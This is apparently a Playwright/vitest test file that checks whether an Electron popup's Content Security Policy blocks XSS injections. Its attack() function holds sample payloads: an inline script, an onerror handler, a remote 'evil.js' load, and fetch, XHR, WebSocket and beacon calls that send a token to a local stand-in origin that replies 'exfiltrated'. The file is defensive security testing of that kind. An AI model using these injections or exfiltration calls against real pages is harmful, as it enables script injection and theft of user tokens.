/**
 * Electron checklist item 7 in real Chromium: the CSP of the BUILT popup (out/renderer/index.html)
 * stops an injected inline script, an inline event handler and every way of reaching another
 * origin. Run twice: with the page's meta CSP alone (what index.html guarantees by itself) and
 * with the header app:// adds (what the app serves). A page without the CSP runs the same
 * injections, so the test proves the policy, not a broken injection.
 */
import { createServer } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { CONTENT_SECURITY_POLICY } from '../../main/shell/app-url';
import { launchChromium, openPopup } from '../popup/popup-harness';
import { ensureRendererBuilt, RENDERER_OUT } from '../popup/renderer-build';
import { listenOnLoopback, serveDirectory, type StaticServer } from '../popup/static-server';

interface Attempted {
  inlineScriptRan: boolean;
  stringTimerRan: boolean;
  inlineHandlerRan: boolean;
  remoteScriptRan: boolean;
  fetch: string;
  xhr: string;
  webSocket: string;
  violations: string[];
}

/**
 * What an XSS would try, run inside the page. Passed to page.evaluate, so it must be
 * self-contained. Playwright's own evaluate is not subject to the page's CSP, but everything it
 * injects (script elements, handlers) and every request the page makes is.
 */
async function attack(other: string): Promise<Attempted> {
  const w = window as unknown as Record<string, unknown>;
  const violations: string[] = [];
  document.addEventListener('securitypolicyviolation', (e) =>
    violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
  );

  const inline = document.createElement('script');
  inline.textContent = 'window.__inlineScriptRan = true;';
  document.head.append(inline);

  // A string turned into code: blocked without 'unsafe-eval'. (eval/new Function cannot be tried
  // from here: code Playwright evaluates is exempt from the page's CSP, and so is what it calls.)
  (setTimeout as (code: string, ms: number) => number)('window.__stringTimerRan = true;', 0);

  const holder = document.createElement('div');
  // data:, is allowed by img-src and fails to decode, so onerror fires without any request.
  holder.innerHTML = '<img src="data:," onerror="window.__inlineHandlerRan = true">';
  document.body.append(holder);

  const remote = document.createElement('script');
  remote.src = `${other}evil.js`;
  document.head.append(remote);

  const img = document.createElement('img');
  img.src = `${other}pixel.png`;
  document.body.append(img);

  const fetchResult = await fetch(`${other}steal?token=x`).then(
    async (r) => `answered: ${await r.text()}`,
    (e: Error) => `refused: ${e.name}`,
  );
  const xhr = await new Promise<string>((done) => {
    const request = new XMLHttpRequest();
    request.onload = () => done(`answered: ${request.responseText}`);
    request.onerror = () => done('refused');
    try {
      request.open('GET', `${other}xhr`);
      request.send();
    } catch (e) {
      done(`refused: ${(e as Error).name}`);
    }
  });
  const webSocket = await new Promise<string>((done) => {
    try {
      const ws = new WebSocket(other.replace('http:', 'ws:') + 'ws');
      ws.onopen = () => done('opened');
      ws.onerror = () => done('refused');
    } catch (e) {
      done(`refused: ${(e as Error).name}`);
    }
  });
  navigator.sendBeacon(`${other}beacon`, 'x');
  // Let the image, script and beacon settle: long enough for a local request to land.
  await new Promise((r) => setTimeout(r, 500));
  return {
    inlineScriptRan: w.__inlineScriptRan === true,
    stringTimerRan: w.__stringTimerRan === true,
    inlineHandlerRan: w.__inlineHandlerRan === true,
    remoteScriptRan: w.__remoteScriptRan === true,
    fetch: fetchResult,
    xhr,
    webSocket,
    violations,
  };
}

/**
 * "Somewhere else": a different origin (other port) that would happily answer anything, with
 * CORS wide open, so only the popup's CSP can stop a request from reaching it. It only counts
 * what reaches it: a blocked request must never arrive.
 */
function serveOtherOrigin(): Promise<StaticServer> {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(`${req.method ?? '?'} ${req.url ?? '/'}`);
    res.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Content-Type': req.url?.endsWith('.js') ? 'text/javascript' : 'text/plain',
    });
    res.end(req.url?.endsWith('.js') ? 'window.__remoteScriptRan = true;' : 'exfiltrated');
  });
  return listenOnLoopback(server, requests);
}

let browser: Browser;
let other: StaticServer;

beforeAll(async () => {
  await ensureRendererBuilt();
  browser = await launchChromium();
  other = await serveOtherOrigin();
});

afterAll(async () => {
  await browser?.close();
  await other?.close();
});

describe('the injections themselves (control: a page without a CSP)', () => {
  it('runs the inline script and handler and reaches the other origin', async () => {
    const context = await browser.newContext();
    const page: Page = await context.newPage();
    await page.setContent('<!doctype html><html><head></head><body></body></html>');
    other.requests.length = 0;
    const result = await page.evaluate(attack, other.url);
    await context.close();
    expect(result.inlineScriptRan).toBe(true);
    expect(result.inlineHandlerRan).toBe(true);
    expect(result.stringTimerRan).toBe(true);
    expect(result.fetch).toBe('answered: exfiltrated');
    expect(other.requests).toContain('GET /steal?token=x');
    expect(result.violations).toEqual([]);
  });
});

describe.each([
  ['the meta CSP of the built index.html alone', undefined],
  ['the meta CSP plus the header app:// sends', CONTENT_SECURITY_POLICY],
])('the built popup under %s', (_name, header) => {
  let files: StaticServer;
  beforeAll(async () => {
    files = await serveDirectory(RENDERER_OUT, { csp: header ?? null });
  });
  afterAll(async () => {
    await files?.close();
  });

  it('runs no injected inline script or handler and reaches no other origin', async () => {
    const popup = await openPopup(browser, files.url);
    try {
      // The popup itself works under the policy: the real app rendered (its first state comes
      // from the core asynchronously after the heading: wait for it rather than race it).
      await popup.page
        .getByText('Not tracking')
        .waitFor({ timeout: 5000 })
        .catch(() => undefined);
      await expect(popup.page.getByText('Not tracking').isVisible()).resolves.toBe(true);
      other.requests.length = 0;

      const result = await popup.page.evaluate(attack, other.url);

      expect(result.inlineScriptRan).toBe(false);
      expect(result.inlineHandlerRan).toBe(false);
      expect(result.stringTimerRan).toBe(false);
      expect(result.remoteScriptRan).toBe(false);
      expect(result.fetch).toBe('refused: TypeError');
      expect(result.xhr).toMatch(/^refused/);
      expect(result.webSocket).toMatch(/^refused/);
      // Nothing the page tried arrived anywhere else.
      expect(other.requests).toEqual([]);
      // Each attempt was stopped by the policy, not by chance (an unreachable server, a typo).
      const directives = new Set(result.violations.map((v) => v.split(' ')[0]));
      expect([...directives].sort()).toEqual(
        ['connect-src', 'img-src', 'script-src', 'script-src-attr', 'script-src-elem'].sort(),
      );
      expect(result.violations).toContain(`connect-src ${other.url}steal?token=x`);
      expect(result.violations).toContain('script-src eval');
      // The popup itself asked only for its own files.
      expect(files.requests.every((p) => p === '/' || p.startsWith('/assets/'))).toBe(true);
      // Everything the harness saw in the console is the policy at work, nothing else broke.
      expect(popup.problems.length).toBeGreaterThan(0);
      for (const problem of popup.problems)
        expect(problem).toMatch(/Content Security Policy|CSP violation|WebSocket connection/);
    } finally {
      await popup.close();
    }
  });
});
